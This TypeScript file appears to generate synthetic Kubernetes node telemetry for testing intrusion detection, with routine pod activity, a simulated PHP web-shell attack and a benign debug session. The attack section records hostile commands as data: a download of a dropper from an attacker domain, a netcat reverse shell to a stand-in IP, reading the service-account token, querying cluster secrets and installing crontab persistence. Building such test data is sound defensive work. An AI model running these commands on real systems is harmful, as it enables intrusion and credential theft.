/**
 * The sample incident, one hour on one Kubernetes node:
 *
 * - ordinary activity: a storefront pod (nginx + php-fpm) rolls out and serves, kubelet exec probes every minute,
 *   a CronJob syncs reports every 15 minutes, an init container installs packages with apt;
 * - the intrusion: a web shell uploaded to the storefront runs `id`/`uname`, resolves the attacker's domain with
 *   nslookup and dig, downloads a dropper to /tmp, which writes /tmp/nc and opens a reverse shell to the attacker,
 *   who starts `bash -i`, reads the service account token, probes the database and installs a crontab;
 * - a benign debugging session: an SRE attaches a debug container to the same pod and runs tcpdump, dig and
 *   nslookup, noise that deserves an exception rather than an investigation.
 *
 * Everything is deterministic: fixed times, pids from a seeded generator.
 */
import type { SampleContainer, SampleHost, SampleProcess, SampleStory } from "./model";
import { StoryBuilder } from "./story-builder";

const T0 = Date.parse("2026-11-23T08:00:00.000Z");
const at = (minute: number, second = 0, ms = 0) => T0 + minute * 60_000 + second * 1000 + ms;

export const SAMPLE_HOST: SampleHost = {
  name: "ip-10-0-12-34.eu-west-1.compute.internal",
  hostname: "ip-10-0-12-34",
  id: "ec2c4b8d1f0e4a6b9c7d5e3f1a2b3c4d",
  ip: "10.0.12.34",
  cluster: "prod-eu-1",
  clusterId: "a1b2c3d4-5e6f-4a1b-9c2d-3e4f5a6b7c8d",
  kernel: "5.10.228-219.884.amzn2.x86_64",
};

/** The attacker's infrastructure (documentation address ranges). */
export const ATTACKER = {
  domain: "kx-updates.top",
  downloadIp: "198.51.100.23",
  callbackIp: "203.0.113.45",
  port: 4444,
};

function container(
  id: string,
  fields: Omit<SampleContainer, "id" | "digest"> & { digestSeed: string },
): SampleContainer {
  const { digestSeed, ...rest } = fields;
  const digest = `sha256:${digestSeed.repeat(64).slice(0, 64)}`;
  return { id: id.repeat(64).slice(0, 64), digest, ...rest };
}

const POD = "storefront-web-6b8f9c7d4-q7m2x";
const POD_LABELS = { app: "storefront-web", "pod-template-hash": "6b8f9c7d4" };
const storefront = (name: string, image: string, tag: string, id: string, digestSeed: string, startedAt: number) =>
  container(id, {
    name,
    image,
    tag,
    digestSeed,
    pod: POD,
    podIp: "10.0.45.17",
    namespace: "shop",
    workload: "storefront-web",
    workloadKind: "Deployment",
    labels: POD_LABELS,
    startedAt,
  });

export function buildIncident(): SampleStory {
  const story = new StoryBuilder(SAMPLE_HOST, 0x6b65656c);
  const nginx = storefront("nginx", "docker.io/library/nginx", "1.25.4-alpine", "7c1e", "4a9d", at(0, 5));
  const php = storefront("php-fpm", "registry.example.com/shop/storefront-php", "3.8.2", "9f3b", "c27e", at(0, 6));

  // Host processes: containerd's shim for the pod and kubelet. No events: only container activity is reported.
  const shim = story.existing(
    null,
    at(0, 4),
    {
      executable: "/usr/bin/containerd-shim-runc-v2",
      argv: [
        "/usr/bin/containerd-shim-runc-v2",
        "-namespace",
        "k8s.io",
        "-id",
        POD,
        "-address",
        "/run/containerd/containerd.sock",
      ],
      container: null,
    },
    1884,
  );

  const { nginxMaster, phpWorkers } = storefrontRollout(story, shim, nginx, php);
  probes(story, shim, nginx, php);
  reportCronJobs(story);
  catalogRollout(story);
  webShellIntrusion(story, phpWorkers[1]!, nginxMaster);
  debugSession(story, shim, nginx);
  return { host: SAMPLE_HOST, events: story.sorted() };
}

function storefrontRollout(story: StoryBuilder, shim: SampleProcess, nginx: SampleContainer, php: SampleContainer) {
  const nginxMaster = story.exec(shim, at(0, 5), {
    executable: "/usr/sbin/nginx",
    argv: ["nginx", "-g", "daemon off;"],
    container: nginx,
    vpid: 1,
  });
  for (let worker = 0; worker < 2; worker++) {
    story.fork(nginxMaster, at(0, 5, 40 + worker * 3), ["nginx: worker process"]);
  }
  const phpMaster = story.exec(shim, at(0, 6), {
    executable: "/usr/local/sbin/php-fpm",
    argv: ["php-fpm: master process (/usr/local/etc/php-fpm.conf)"],
    container: php,
    cwd: "/var/www/html",
    vpid: 1,
  });
  const phpWorkers: SampleProcess[] = [];
  for (let worker = 0; worker < 3; worker++) {
    const spawned = story.fork(phpMaster, at(0, 6, 80 + worker * 5), ["php-fpm: pool www"]);
    spawned.uid = 82;
    spawned.gid = 82;
    spawned.user = "www-data";
    spawned.group = "www-data";
    phpWorkers.push(spawned);
  }
  // pm.max_requests recycles a worker now and then.
  for (const minute of [17, 38, 52]) {
    const worker = phpWorkers[minute % 3]!;
    story.exit(worker, at(minute, 11), 0);
    const replacement = story.fork(phpMaster, at(minute, 11, 6), ["php-fpm: pool www"]);
    Object.assign(replacement, { uid: 82, gid: 82, user: "www-data", group: "www-data" });
  }
  return { nginxMaster, phpWorkers };
}

/** kubelet exec probes: runc runs the probe command inside the container every other minute. */
function probes(story: StoryBuilder, shim: SampleProcess, nginx: SampleContainer, php: SampleContainer): void {
  for (let minute = 1; minute < 60; minute += 2) {
    for (const [target, executable, argv, offset] of [
      [nginx, "/usr/bin/wget", ["wget", "-q", "-O", "/dev/null", "http://127.0.0.1:8080/healthz"], 12],
      [php, "/usr/bin/cgi-fcgi", ["cgi-fcgi", "-bind", "-connect", "127.0.0.1:9000"], 14],
    ] as const) {
      const started = at(minute, offset, story.int(0, 400));
      const runc = story.existing(shim, started - 30, {
        executable: "/usr/bin/runc",
        argv: ["runc", "--root", "/run/containerd/runc/k8s.io", "exec", "--process", "/tmp/runc-process", target.id],
        container: null,
      });
      const probe = story.exec(runc, started, {
        executable,
        argv: [...argv],
        container: target,
        cwd: "/",
        uid: 0,
        user: "root",
      });
      story.exit(probe, started + story.int(8, 60), 0);
    }
  }
}

/** A CronJob's pod every 15 minutes: python syncs reports and gzips them, no shell involved. */
function reportCronJobs(story: StoryBuilder): void {
  for (const [index, minute] of [0, 15, 30, 45].entries()) {
    const jobId = 29_391_240 + index * 15;
    const job = container(`${(index + 3).toString(16)}d5a`, {
      name: "report-sync",
      image: "registry.example.com/shop/report-sync",
      tag: "1.4.0",
      digestSeed: "e81f",
      pod: `report-sync-${jobId}-${["h2kqz", "m8wpt", "r4xvn", "t9cjd"][index]}`,
      podIp: `10.0.45.${60 + index}`,
      namespace: "shop",
      workload: "report-sync",
      workloadKind: "CronJob",
      labels: { "batch.kubernetes.io/job-name": `report-sync-${jobId}`, app: "report-sync" },
      startedAt: at(minute, 2),
    });
    const jobShim = story.existing(null, at(minute, 1), {
      executable: "/usr/bin/containerd-shim-runc-v2",
      argv: ["/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io", "-id", job.pod],
      container: null,
    });
    const python = story.exec(jobShim, at(minute, 2), {
      executable: "/usr/local/bin/python3.12",
      argv: ["python", "/app/sync.py", "--since", "15m"],
      container: job,
      cwd: "/app",
      uid: 1000,
      user: "app",
      vpid: 1,
    });
    story.file(python, at(minute, 9, 310), "/tmp/report.csv");
    const gzip = story.exec(python, at(minute, 9, 420), {
      executable: "/usr/bin/gzip",
      argv: ["gzip", "-9", "/tmp/report.csv"],
    });
    story.exit(gzip, at(minute, 9, 610), 0);
    story.exit(python, at(minute, 10, 150), 0);
  }
}

/** The catalog API rolls out; its init container installs CA certificates with apt. */
function catalogRollout(story: StoryBuilder): void {
  const pod = "catalog-api-5f7d8c9b6-w2lhs";
  const base = {
    pod,
    podIp: "10.0.45.31",
    namespace: "shop",
    workload: "catalog-api",
    workloadKind: "Deployment",
    labels: { app: "catalog-api", "pod-template-hash": "5f7d8c9b6" },
  };
  const init = container("2e8a", {
    ...base,
    name: "install-certs",
    image: "docker.io/library/debian",
    tag: "12-slim",
    digestSeed: "d4c1",
    startedAt: at(20, 3),
  });
  const api = container("5b40", {
    ...base,
    name: "catalog-api",
    image: "registry.example.com/shop/catalog-api",
    tag: "5.2.0",
    digestSeed: "17af",
    startedAt: at(20, 41),
  });
  const podShim = story.existing(null, at(20, 2), {
    executable: "/usr/bin/containerd-shim-runc-v2",
    argv: ["/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io", "-id", pod],
    container: null,
  });
  const sh = story.exec(podShim, at(20, 3), {
    executable: "/bin/sh",
    argv: ["sh", "-c", "apt-get update && apt-get install -y --no-install-recommends ca-certificates"],
    container: init,
    vpid: 1,
  });
  const update = story.exec(sh, at(20, 3, 200), { executable: "/usr/bin/apt-get", argv: ["apt-get", "update"] });
  // deb.debian.org twice (main, updates), then security.debian.org.
  for (const index of [0, 1, 2]) {
    const method = story.exec(update, at(20, 3, 400 + index * 30), {
      executable: "/usr/lib/apt/methods/http",
      argv: ["/usr/lib/apt/methods/http"],
      uid: 42,
      user: "_apt",
      gid: 65534,
      group: "nogroup",
    });
    story.connect(method, at(20, 3, 600 + index * 30), index === 2 ? "151.101.194.132" : "151.101.130.132", 80);
    story.exit(method, at(20, 9, index * 100), 0);
  }
  story.exit(update, at(20, 10), 0);
  const install = story.exec(sh, at(20, 10, 100), {
    executable: "/usr/bin/apt-get",
    argv: ["apt-get", "install", "-y", "--no-install-recommends", "ca-certificates"],
  });
  const fetch = story.exec(install, at(20, 10, 400), {
    executable: "/usr/lib/apt/methods/http",
    argv: ["/usr/lib/apt/methods/http"],
    uid: 42,
    user: "_apt",
    gid: 65534,
    group: "nogroup",
  });
  story.connect(fetch, at(20, 10, 500), "151.101.130.132", 80);
  story.file(fetch, at(20, 12), "/var/cache/apt/archives/partial/ca-certificates_20230311_all.deb");
  story.exit(fetch, at(20, 14), 0);
  const dpkg = story.exec(install, at(20, 15), {
    executable: "/usr/bin/dpkg",
    argv: [
      "/usr/bin/dpkg",
      "--status-fd",
      "23",
      "--no-triggers",
      "--unpack",
      "--auto-deconfigure",
      "/var/cache/apt/archives/ca-certificates_20230311_all.deb",
    ],
  });
  const deb = story.exec(dpkg, at(20, 15, 120), {
    executable: "/usr/bin/dpkg-deb",
    argv: ["dpkg-deb", "--fsys-tarfile", "/var/cache/apt/archives/ca-certificates_20230311_all.deb"],
  });
  story.exit(deb, at(20, 16), 0);
  story.file(dpkg, at(20, 16, 300), "/usr/sbin/update-ca-certificates");
  story.exit(dpkg, at(20, 18), 0);
  story.exit(install, at(20, 39), 0);
  story.exit(sh, at(20, 40), 0);
  const node = story.exec(podShim, at(20, 41), {
    executable: "/usr/local/bin/node",
    argv: ["node", "server.js"],
    container: api,
    cwd: "/app",
    uid: 1000,
    user: "node",
    vpid: 1,
  });
  void node;
}

/** The attack: a PHP web shell, recon, a dropper in /tmp, a reverse shell, an interactive shell. */
function webShellIntrusion(story: StoryBuilder, worker: SampleProcess, nginxMaster: SampleProcess): void {
  void nginxMaster;
  const webShell = (minute: number, second: number, command: string) =>
    story.exec(worker, at(minute, second), {
      executable: "/bin/sh",
      argv: ["sh", "-c", command],
      cwd: "/var/www/html/wp-content/uploads/2026/11",
    });
  const run = (parent: SampleProcess, time: number, executable: string, argv: string[], exitAfter: number) => {
    const process = story.exec(parent, time, { executable, argv });
    story.exit(process, time + exitAfter, 0);
    return process;
  };

  // Recon through the web shell (thumb.php?c=...): who am I, where am I.
  for (const [second, command, executable, argv] of [
    [7, "id", "/usr/bin/id", ["id"]],
    [12, "uname -a", "/bin/uname", ["uname", "-a"]],
    [19, "cat /etc/os-release", "/bin/cat", ["cat", "/etc/os-release"]],
  ] as const) {
    const sh = webShell(31, second, command);
    run(sh, at(31, second, 4), executable, [...argv], 3);
    story.exit(sh, at(31, second, 9), 0);
  }
  // Can the pod reach the attacker's domain?
  const lookup = webShell(31, 41, `nslookup ${ATTACKER.domain}`);
  run(lookup, at(31, 41, 3), "/usr/bin/nslookup", ["nslookup", ATTACKER.domain], 180);
  story.exit(lookup, at(31, 41, 190), 0);
  const txt = webShell(31, 55, `dig +short TXT cfg.${ATTACKER.domain}`);
  run(txt, at(31, 55, 2), "/usr/bin/dig", ["dig", "+short", "TXT", `cfg.${ATTACKER.domain}`], 95);
  story.exit(txt, at(31, 55, 100), 0);

  // The dropper lands in /tmp.
  const fetch = webShell(32, 30, `wget -q http://${ATTACKER.domain}/u -O /tmp/.x/update; chmod +x /tmp/.x/update`);
  const mkdir = run(fetch, at(32, 30, 2), "/bin/mkdir", ["mkdir", "-p", "/tmp/.x"], 2);
  void mkdir;
  const wget = story.exec(fetch, at(32, 30, 6), {
    executable: "/usr/bin/wget",
    argv: ["wget", "-q", `http://${ATTACKER.domain}/u`, "-O", "/tmp/.x/update"],
  });
  story.connect(wget, at(32, 30, 90), ATTACKER.downloadIp, 80);
  story.file(wget, at(32, 30, 140), "/tmp/.x/update");
  story.exit(wget, at(32, 31, 20), 0);
  run(fetch, at(32, 31, 30), "/bin/chmod", ["chmod", "+x", "/tmp/.x/update"], 2);
  story.exit(fetch, at(32, 31, 40), 0);

  // The dropper writes a netcat build next to itself and calls home with a shell.
  const launch = webShell(32, 41, "/tmp/.x/update >/dev/null 2>&1 &");
  const dropper = story.exec(launch, at(32, 41, 3), { executable: "/tmp/.x/update", argv: ["/tmp/.x/update"] });
  story.exit(launch, at(32, 41, 9), 0);
  story.file(dropper, at(32, 42, 310), "/tmp/nc");
  const nc = story.exec(dropper, at(32, 42, 600), {
    executable: "/tmp/nc",
    argv: ["/tmp/nc", ATTACKER.callbackIp, String(ATTACKER.port), "-e", "/bin/bash"],
  });
  story.connect(nc, at(32, 42, 640), ATTACKER.callbackIp, ATTACKER.port);
  const reverse = story.exec(nc, at(32, 43, 20), { executable: "/bin/bash", argv: ["/bin/bash"] });

  // The attacker upgrades to an interactive shell and looks around.
  const interactive = story.exec(reverse, at(33, 5, 410), { executable: "/bin/bash", argv: ["bash", "-i"] });
  const hands = (second: number, executable: string, argv: string[], exitAfter: number, minute = 33) =>
    run(interactive, at(minute, second), executable, argv, exitAfter);
  hands(12, "/usr/bin/id", ["id"], 3);
  hands(20, "/bin/ls", ["ls", "-la", "/var/run/secrets/kubernetes.io/serviceaccount"], 4);
  hands(31, "/bin/cat", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], 3);
  const curl = hands(
    48,
    "/usr/bin/curl",
    ["curl", "-sk", "--max-time", "5", "https://kubernetes.default.svc/api/v1/namespaces/shop/secrets"],
    260,
  );
  story.connect(curl, at(33, 48, 30), "172.20.0.1", 443);
  hands(10, "/usr/bin/nslookup", ["nslookup", "postgres.shop.svc.cluster.local"], 40, 34);
  const probe = hands(26, "/usr/bin/nc", ["nc", "-zv", "-w", "2", "10.0.45.52", "5432"], 30, 34);
  story.connect(probe, at(34, 26, 5), "10.0.45.52", 5432);
  // Persistence: a crontab entry that relaunches the dropper.
  const crontab = hands(51, "/usr/bin/crontab", ["crontab", "-"], 6, 34);
  story.file(crontab, at(34, 51, 4), "/var/spool/cron/crontabs/www-data");
  story.exit(interactive, at(36, 2), 0);
  story.exit(reverse, at(36, 2, 5), 0);
  story.exit(nc, at(36, 2, 9), 0);
}

/** `kubectl debug -it` adds an ephemeral alpine container; the SRE captures traffic and checks DNS. */
function debugSession(story: StoryBuilder, shim: SampleProcess, nginx: SampleContainer): void {
  const debug: SampleContainer = {
    ...nginx,
    id: "d3b6".repeat(16),
    name: "debugger-x8k2p",
    image: "docker.io/library/alpine",
    tag: "3.19",
    digest: `sha256:${"51b6".repeat(16)}`,
    startedAt: at(47, 10),
  };
  const shell = story.exec(shim, at(47, 10), {
    executable: "/bin/sh",
    argv: ["/bin/sh"],
    container: debug,
    cwd: "/",
    uid: 0,
    user: "root",
    tty: true,
    vpid: 1,
  });
  const step = (minute: number, second: number, executable: string, argv: string[], seconds: number) => {
    const process = story.exec(shell, at(minute, second), { executable, argv });
    story.exit(process, at(minute, second) + seconds * 1000, 0);
    return process;
  };
  const apk = step(47, 31, "/sbin/apk", ["apk", "add", "--no-cache", "tcpdump", "bind-tools"], 6);
  story.connect(apk, at(47, 31, 200), "151.101.2.132", 443);
  story.file(apk, at(47, 33), "/usr/bin/tcpdump");
  story.file(apk, at(47, 34), "/usr/bin/dig");
  step(48, 2, "/usr/bin/tcpdump", ["tcpdump", "-i", "eth0", "-nn", "-c", "200", "port", "80"], 41);
  step(49, 15, "/usr/bin/tcpdump", ["tcpdump", "-i", "any", "-nn", "-A", "-c", "50", "port", "9000"], 28);
  step(50, 3, "/usr/bin/dig", ["dig", "+short", "storefront-php.shop.svc.cluster.local"], 1);
  step(50, 20, "/usr/bin/nslookup", ["nslookup", "catalog-api.shop.svc.cluster.local"], 1);
  story.exit(shell, at(51, 45), 0);
}
